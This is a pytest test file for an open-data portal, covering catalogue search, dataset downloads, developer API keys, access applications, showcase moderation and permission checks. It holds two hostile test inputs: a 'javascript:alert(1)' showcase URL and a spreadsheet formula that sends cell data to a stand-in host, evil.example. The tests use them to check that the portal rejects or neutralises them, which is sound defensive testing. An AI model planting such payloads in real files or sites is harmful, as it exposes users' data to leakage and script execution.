"""The open-data portal's pages and downloads, the developer's journey, the stewards' pages, and
outsiders kept out of each."""

import csv
import io
import json

import pytest
from openpyxl import load_workbook

from conftest import _staff, department, login
from yiwang.accounts.models import ApiToken
from yiwang.opendata import actions
from yiwang.opendata.models import AccessApplication, Developer, OpenDataset, Showcase
from yiwang.opendata.tests.factories import air_quality, population
from yiwang.opendata.tests.test_publishing import AIR


@pytest.fixture
def air(steward):
    return actions.do_publish_dataset(air_quality(department("02")), AIR, actor=steward)


@pytest.fixture
def people(steward, settings):
    settings.YIWANG_OPENDATA_MIN_GROUP = 1
    resource = population(department("02"), opening="conditional")
    return actions.do_publish_dataset(
        resource,
        {
            **AIR,
            "name": "street-population",
            "title": "各街道户籍人口数",
            "notes": "各街道户籍人口数。",
            "theme": "society",
            "tags": ["人口"],
            "aggregate_by": ["street"],
        },
        actor=steward,
    )


def body(response):
    return b"".join(response.streaming_content) if response.streaming else response.content


def test_the_catalogue_lists_searches_and_filters_by_facet(client, air, people):
    page = client.get("/opendata/").content.decode()
    assert "空气质量监测日报" in page and "各街道户籍人口数" in page and "数据集：2" in page.replace(" ", "")
    page = client.get("/opendata/", {"q": "人口"}).content.decode()
    assert "各街道户籍人口数" in page and "空气质量监测日报" not in page
    page = client.get("/opendata/", {"groups": "environment"}).content.decode()
    assert "空气质量监测日报" in page and "各街道户籍人口数" not in page
    page = client.get(
        "/opendata/", {"opening_type": "conditional", "sort": "quality", "page": "x"}
    ).content.decode()
    assert "各街道户籍人口数" in page and "空气质量监测日报" not in page


def test_odd_catalogue_queries_show_an_empty_list_not_an_error(client, air):
    for params in (
        {"q": 'tags:"'},
        {"q": "x" * 500},
        {"organization": '"'},
        {"page": "-3"},
        {"sort": "drop"},
    ):
        assert client.get("/opendata/", params).status_code == 200


def test_a_dataset_page_shows_metadata_a_preview_and_counts_the_view(client, air):
    page = client.get("/opendata/dataset/air-quality/").content.decode()
    assert (
        "空气质量指数" in page and "解放碑" in page and "/opendata/dataset/air-quality/download.csv" in page
    )
    assert OpenDataset.objects.get(pk=air.pk).view_count == 1
    assert client.get("/opendata/dataset/nope/").status_code == 404


def test_a_conditional_dataset_shows_no_rows_to_the_public(client, people):
    page = client.get("/opendata/dataset/street-population/").content.decode()
    assert "解放碑街道" not in page and "开放条件" not in page or "有条件" in page
    assert client.get("/opendata/dataset/street-population/download.csv").status_code == 403
    assert client.get("/opendata/dataset/street-population/rows").status_code == 403


def test_downloads_in_three_formats_hold_the_opened_rows(client, air):
    response = client.get("/opendata/dataset/air-quality/download.csv")
    assert response.status_code == 200 and response["Content-Disposition"].endswith('air-quality.csv"')
    table = list(csv.reader(io.StringIO(body(response).decode("utf-8-sig"))))
    assert table[0] == ["station", "day", "aqi", "level"] and len(table) == 31
    rows = json.loads(body(client.get("/opendata/dataset/air-quality/download.json")))
    assert len(rows) == 30 and rows[0] == {"station": "解放碑", "day": "2026-10-01", "aqi": 40, "level": "优"}
    workbook = load_workbook(io.BytesIO(body(client.get("/opendata/dataset/air-quality/download.xlsx"))))
    sheet = workbook.active
    assert sheet.max_row == 31 and [c.value for c in sheet[1]] == ["station", "day", "aqi", "level"]
    assert OpenDataset.objects.get(pk=air.pk).download_count == 3
    assert client.get("/opendata/dataset/air-quality/download.exe").status_code == 404


def test_the_rows_api_pages_and_filters(client, air):
    data = client.get(
        "/opendata/dataset/air-quality/rows",
        {"limit": 4, "offset": 2, "filters": json.dumps({"level": "良"})},
    ).json()
    assert data["columns"] == ["station", "day", "aqi", "level"] and data["limit"] == 4
    assert data["total"] == sum(1 for n in range(30) if 40 + (n * 7) % 90 > 50)
    assert len(data["rows"]) == 4 and all(row["level"] == "良" for row in data["rows"])
    for params in (
        {"limit": "x"},
        {"limit": 5000},
        {"offset": -1},
        {"filters": "{"},
        {"sort": "nope"},
        {"filters": json.dumps({"aqi": [1] * 101})},
    ):
        response = client.get("/opendata/dataset/air-quality/rows", params)
        assert response.status_code == 400 and response.json()["error"]["message"]


def test_a_developer_registers_gets_a_key_applies_and_reads_once_approved(
    client, people, newcomer, steward, password
):
    login(client, newcomer)
    assert (
        client.post("/opendata/developer/", {"purpose": "街道人口分析"}).status_code == 200
    )  # terms not accepted
    assert not Developer.objects.exists()
    client.post(
        "/opendata/developer/", {"purpose": "街道人口分析", "organisation": "重庆某大学", "agreed": "on"}
    )
    developer = Developer.objects.get(user=newcomer)
    client.post("/opendata/developer/keys/new/")
    key = client.get("/opendata/developer/").context["new_key"]
    assert key.startswith("yw_") and ApiToken.objects.filter(user=newcomer, name="open data").count() == 1
    assert client.get("/opendata/developer/").context["new_key"] is None  # shown once
    client.post("/opendata/dataset/street-population/apply/", {"purpose": "研究人口分布"})
    application = AccessApplication.objects.get(developer=developer)
    client.post("/opendata/dataset/street-population/apply/", {"purpose": "再次申请"})
    assert AccessApplication.objects.count() == 1
    client.logout()
    assert (
        client.get("/opendata/dataset/street-population/rows", headers={"Authorization": key}).status_code
        == 403
    )
    login(client, steward)
    client.post(
        f"/staff/opendata/applications/{application.pk}/decide/", {"decision": "refuse", "reason": ""}
    )
    assert (
        AccessApplication.objects.get(pk=application.pk).status == AccessApplication.PENDING
    )  # a refusal needs its reason
    client.post(f"/staff/opendata/applications/{application.pk}/decide/", {"decision": "approve"})
    assert AccessApplication.objects.get(pk=application.pk).status == AccessApplication.APPROVED
    client.logout()
    data = client.get("/opendata/dataset/street-population/rows", headers={"X-CKAN-API-Key": key}).json()
    assert sum(row["count"] for row in data["rows"]) == 12 and set(data["rows"][0]) == {"street", "count"}
    login(client, steward)
    client.post(f"/staff/opendata/applications/{application.pk}/revoke/", {"reason": "超出用途"})
    client.logout()
    assert (
        client.get("/opendata/dataset/street-population/rows", headers={"Authorization": key}).status_code
        == 403
    )


def test_a_developer_revokes_a_key(client, newcomer):
    actions.do_register_developer(newcomer, organisation="", purpose="应用", agreed=True, actor=newcomer)
    login(client, newcomer)
    client.post("/opendata/developer/keys/new/")
    token = ApiToken.objects.get(user=newcomer)
    client.post(f"/opendata/developer/keys/{token.pk}/revoke/")
    assert ApiToken.objects.get(pk=token.pk).revoked_at is not None


def test_showcase_entries_are_shown_once_moderated(client, air, newcomer, steward):
    developer = actions.do_register_developer(
        newcomer, organisation="", purpose="应用", agreed=True, actor=newcomer
    )
    login(client, newcomer)
    response = client.post(
        "/opendata/showcase/new/",
        {
            "title": "空气早知道",
            "description": "每日空气提醒小程序",
            "url": "javascript:alert(1)",
            "datasets": [air.pk],
        },
    )
    assert response.status_code == 200 and not Showcase.objects.exists()
    client.post(
        "/opendata/showcase/new/",
        {
            "title": "空气早知道",
            "description": "每日空气提醒小程序",
            "url": "https://air.example.cn",
            "datasets": [air.pk],
        },
    )
    entry = Showcase.objects.get(developer=developer)
    client.logout()
    assert "空气早知道" not in client.get("/opendata/showcase/").content.decode()
    login(client, steward)
    client.post(f"/staff/opendata/showcase/{entry.pk}/moderate/", {"decision": "approve"})
    client.logout()
    assert "空气早知道" in client.get("/opendata/showcase/").content.decode()
    assert "空气早知道" in client.get("/opendata/dataset/air-quality/").content.decode()


def test_a_steward_publishes_changes_and_withdraws_from_the_pages(client, steward):
    resource = air_quality(department("02"))
    login(client, steward)
    assert "空气质量监测" in client.get("/staff/opendata/").content.decode()
    form = {
        "name": "air",
        "title": "空气质量",
        "notes": "每日空气质量指数与等级。",
        "theme": "environment",
        "tags": "空气,环境",
        "licence": "cc-by-4.0",
        "fields": ["station", "aqi"],
    }
    response = client.post(f"/staff/opendata/publish/{resource.code}/", {**form, "name": "Bad Name"})
    assert response.status_code == 200 and not OpenDataset.objects.exists()
    client.post(f"/staff/opendata/publish/{resource.code}/", form)
    dataset = OpenDataset.objects.get()
    assert dataset.fields == ["station", "aqi"] and dataset.tags == ["空气", "环境"]
    client.post(f"/staff/opendata/datasets/{dataset.name}/withdraw/", {"reason": "更新口径"})
    assert OpenDataset.objects.get().status == OpenDataset.WITHDRAWN


def test_personal_fields_are_refused_on_the_steward_page(client, steward, english):
    resource = population(department("02"), opening="unconditional")
    login(client, steward)
    response = client.post(
        f"/staff/opendata/publish/{resource.code}/",
        {
            "name": "people",
            "title": "人口",
            "notes": "人口。",
            "theme": "society",
            "licence": "cc-by-4.0",
            "fields": ["name", "street"],
        },
    )
    assert "is personal information" in response.content.decode() and not OpenDataset.objects.exists()


@pytest.mark.parametrize(
    "url, method",
    [
        ("/staff/opendata/", "get"),
        ("/staff/opendata/publish/500103-AQ-0001/", "get"),
        ("/staff/opendata/datasets/air-quality/withdraw/", "post"),
        ("/staff/opendata/applications/1/decide/", "post"),
        ("/staff/opendata/showcase/1/moderate/", "post"),
        ("/opendata/developer/", "get"),
        ("/opendata/developer/keys/new/", "post"),
        ("/opendata/showcase/new/", "get"),
        ("/opendata/dataset/air-quality/apply/", "post"),
    ],
)
def test_anonymous_visitors_are_sent_to_log_in(client, air, url, method):
    response = getattr(client, method)(url)
    assert response.status_code == 302 and "/accounts/login/" in response["Location"]


def test_another_departments_steward_sees_only_their_own_resources(client, air):
    login(client, _staff("steward5", "钱多", department("05"), "data_steward"))
    page = client.get("/staff/opendata/").content.decode()
    assert "空气质量监测" not in page and "本部门没有可开放的资源" in page


@pytest.mark.parametrize(
    "url, method",
    [
        ("/staff/opendata/publish/500103-AQ-0001/", "get"),
        ("/staff/opendata/datasets/air-quality/withdraw/", "post"),
    ],
)
def test_citizens_and_other_departments_stewards_are_kept_out(client, air, li_wei, url, method):
    login(client, li_wei)
    assert client.get("/staff/opendata/").status_code == 403
    client.logout()
    outsider_steward = _staff("steward5", "钱多", department("05"), "data_steward")
    for user in (li_wei, outsider_steward):
        login(client, user)
        response = getattr(client, method)(url, {"reason": "x"} if method == "post" else None)
        assert response.status_code in (403, 404), (user, url)
        client.logout()
    assert OpenDataset.objects.get().status == OpenDataset.PUBLISHED


def test_another_departments_steward_cannot_answer_or_moderate(client, people, newcomer):
    developer = actions.do_register_developer(
        newcomer, organisation="", purpose="应用", agreed=True, actor=newcomer
    )
    application = actions.do_apply_for_access(developer, people, purpose="研究", actor=newcomer)
    login(client, _staff("steward5", "钱多", department("05"), "data_steward"))
    assert (
        client.post(
            f"/staff/opendata/applications/{application.pk}/decide/", {"decision": "approve"}
        ).status_code
        == 404
    )
    assert AccessApplication.objects.get(pk=application.pk).status == AccessApplication.PENDING


def test_a_developer_sees_only_their_own_keys(client, newcomer, li_wei):
    actions.do_register_developer(newcomer, organisation="", purpose="应用", agreed=True, actor=newcomer)
    login(client, newcomer)
    client.post("/opendata/developer/keys/new/")
    token = ApiToken.objects.get(user=newcomer)
    client.logout()
    actions.do_register_developer(li_wei, organisation="", purpose="应用", agreed=True, actor=li_wei)
    login(client, li_wei)
    assert client.post(f"/opendata/developer/keys/{token.pk}/revoke/").status_code == 404
    assert ApiToken.objects.get(pk=token.pk).revoked_at is None


def test_downloads_write_formula_looking_text_as_text_and_numbers_as_numbers(client, air):
    from yiwang.datahub.models import Record

    record = Record.objects.filter(resource__code="500103-AQ-0001").order_by("pk").first()
    formula = '=HYPERLINK("http://evil.example/?"&A2,"详情")'
    Record.objects.filter(pk=record.pk).update(
        values={**record.values, "station": formula, "aqi": -5, "level": "-12.5"}
    )

    table = list(
        csv.reader(
            io.StringIO(body(client.get("/opendata/dataset/air-quality/download.csv")).decode("utf-8-sig"))
        )
    )
    row = next(r for r in table if formula in r[0])
    assert row[0] == "'" + formula and row[2] == "-5" and row[3] == "-12.5"
    sheet = load_workbook(io.BytesIO(body(client.get("/opendata/dataset/air-quality/download.xlsx")))).active
    cells = next(r for r in sheet.iter_rows(values_only=True) if formula in str(r[0]))
    assert cells[0] == "'" + formula and cells[2] == -5 and cells[3] == "-12.5"
    assert not any(c.data_type == "f" for r in sheet.iter_rows() for c in r)
    rows = json.loads(body(client.get("/opendata/dataset/air-quality/download.json")))
    assert any(r["station"] == formula for r in rows)  # JSON is for programs: the value as stored
